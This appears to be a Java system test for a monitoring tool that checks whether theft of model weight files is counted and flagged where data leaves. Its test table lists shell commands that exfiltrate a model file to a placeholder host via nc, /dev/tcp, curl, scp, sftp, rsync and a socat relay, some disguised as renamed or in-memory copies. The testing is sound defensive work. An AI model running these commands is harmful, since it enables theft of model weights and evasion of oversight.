// SPDX-License-Identifier: Apache-2.0
package io.modelwarden.system;

import static io.modelwarden.coverage.Bytes.EXACT;
import static io.modelwarden.coverage.Hook.SOCK_RECV_LENGTH;
import static io.modelwarden.coverage.Hook.SOCK_SEND_LENGTH;
import static io.modelwarden.coverage.Hook.SYS_EXIT;
import static io.modelwarden.coverage.Kind.TRAIL;
import static io.modelwarden.system.ExportedTotals.attribute;
import static io.modelwarden.system.Stage.MODEL_BYTES;
import static io.modelwarden.system.Stage.nameOf;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.modelwarden.coverage.Way;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Thefts by programs of which one reads and another sends: what leaves is counted where it leaves,
 * under the model's name, and is a finding.
 */
@Tag("system")
class RelayedTheftsTest {

  @TempDir static Path folder;
  private static Outside outside;
  private static Stage stage;

  @BeforeAll
  static void start() throws IOException {
    outside = new Outside(folder);
    stage = new Stage(folder, "");
  }

  @AfterAll
  static void stop() {
    stage.close();
    outside.close();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          cat and nc             | cat   | nc.openbsd | pipe   | `cat MODEL | nc.openbsd -N HOST 4433`
          gzip and nc            | gzip  | nc.openbsd | pipe   | `gzip -1c MODEL | nc.openbsd -N HOST 4433`
          tar and its child      | tar   | gzip       | pipe   | `tar -czPf - MODEL >/dev/tcp/HOST/4433`
          tar, gzip and curl     | tar   | curl       | pipe   | `tar -cPf - MODEL | gzip -1 | curl -sS -T - http://HOST:8081/stolen`
          scp                    | scp   | ssh        | socket | `scp OPTIONS MODEL root@HOST:stolen`
          sftp                   | sftp  | ssh        | socket | `echo put MODEL stolen | sftp OPTIONS -b - root@HOST`
          rsync over ssh         | rsync | ssh        | socket | `rsync -e "ssh OPTIONS" MODEL root@HOST:stolen`
          a copy on disk         | cp    | curl       | file   | `cp MODEL COPY && curl -sS -T COPY http://HOST:8081/stolen`
          an archive, renamed    | tar   | nc.openbsd | file   | `tar -cPf COPY MODEL && mv COPY COPY.jpg && nc.openbsd -N HOST 4433 <COPY.jpg`
          a copy in memory       | cat   | nc.openbsd | file   | `cat MODEL >/dev/shm/modelwarden-$$; nc.openbsd -N HOST 4433 </dev/shm/modelwarden-$$; rm /dev/shm/modelwarden-$$`
          a relay on loopback    | socat | socat      | socket | `socat -u TCP-LISTEN:8099,bind=127.0.0.1 TCP:HOST:4433 & sleep 0.5; socat -u OPEN:MODEL TCP:127.0.0.1:8099; wait`
          """)
  @Way(
      value = "a pipe to another program, to a child forked before the read, over three programs",
      of = TRAIL,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = {"and nc", "child", "and curl"})
  @Way(
      value = "scp, sftp and rsync over ssh",
      of = TRAIL,
      bytes = EXACT,
      by = {SOCK_RECV_LENGTH, SOCK_SEND_LENGTH, SYS_EXIT},
      when = {"scp", "sftp", "ssh"})
  @Way(
      value = "a copy on disk or in memory, in pieces, renamed, linked, copied again",
      of = TRAIL,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = {"copy", "archive"},
      note = "files of 128 KiB and more, 1 MiB of them together")
  @Way(
      value = "a relay on loopback",
      of = TRAIL,
      bytes = EXACT,
      by = {SOCK_RECV_LENGTH, SOCK_SEND_LENGTH},
      when = "relay")
  void theft_isReportedWhereItLeaves(
      String what, String reader, String sender, String via, String command) throws IOException {
    Path model = stage.model(reader);
    String name = nameOf(model);
    outside.clear();
    Stage.run(
        command
            .replace("MODEL", model.toString())
            .replace("COPY", folder.resolve("copy-" + name).toString())
            .replace("OPTIONS", outside.sshOptions)
            .replace("HOST", PublicNamespace.OUTSIDE));
    RunningCollector.await("the loot", () -> outside.received() >= MODEL_BYTES);
    stage.settle(name);

    assertThat(stage.read(model)).isEqualTo(MODEL_BYTES);
    assertThat(stage.total("modelwarden.file.io", model.toString(), reader)).isEqualTo(MODEL_BYTES);
    long sent = stage.total("modelwarden.network.io", name, "tcp", "initiated", "public");
    assertThat(sent).isBetween(outside.received(), outside.received() * 101 / 100);
    assertThat(stage.total("modelwarden.network.io", name, sender, "public")).isEqualTo(sent);
    List<JsonNode> spans =
        stage.spans("send tcp", name).stream()
            .filter(span -> EgressSpan.of(span).scope().equals("public"))
            .toList();
    assertThat(spans.stream().mapToLong(EgressSpan::sent).sum()).isEqualTo(sent);
    JsonNode last = spans.get(spans.size() - 1);
    EgressSpan facts = EgressSpan.of(last);
    assertThat(facts.executable()).isEqualTo(sender);
    assertThat(facts.via()).isEqualTo(via);
    assertThat(facts.modelBytes()).isEqualTo(MODEL_BYTES);
    assertThat(facts.dataBytes()).isBetween(MODEL_BYTES, MODEL_BYTES * 101 / 100);
    assertThat(attribute(last, "file.path").asText()).isEqualTo(model.toString());
    assertThat(stage.findings(name)).isNotEmpty();
  }

  @Test
  @Way(
      value = "a copy that ends like a model, sent by another program",
      of = TRAIL,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH})
  void copy_isSentUnderTheNameOfItsModel() throws IOException {
    Path model = stage.model("cp");
    String name = nameOf(model);
    Path copy = folder.resolve(Stage.own("copy") + ".gguf");
    outside.clear();
    Stage.run("cp " + model + " " + copy);
    Stage.run("curl -sS -T " + copy + " http://" + PublicNamespace.OUTSIDE + ":8081/stolen");
    RunningCollector.await("the loot", () -> outside.received() >= MODEL_BYTES);
    RunningCollector.await("its span", () -> !stage.spans("send tcp", name).isEmpty());
    stage.settle(name);

    assertThat(stage.read(copy)).isEqualTo(MODEL_BYTES);
    long sent = stage.total("modelwarden.network.io", name, "curl", "public");
    assertThat(sent).isBetween(outside.received(), outside.received() * 101 / 100);
    assertThat(stage.total("modelwarden.network.io", nameOf(copy))).isZero();
    assertThat(stage.findings(name)).isNotEmpty();
  }
}
